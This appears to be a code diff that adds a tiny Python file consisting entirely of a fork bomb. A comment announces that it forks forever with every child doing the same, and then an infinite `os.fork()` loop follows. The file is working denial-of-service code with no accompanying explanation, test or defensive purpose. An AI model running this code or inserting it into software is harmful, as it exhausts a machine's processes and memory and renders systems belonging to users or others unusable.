@@ -1,0 +1,5 @@
+# Forks forever; every child does the same.
+import os
+
+while True:
+    os.fork()
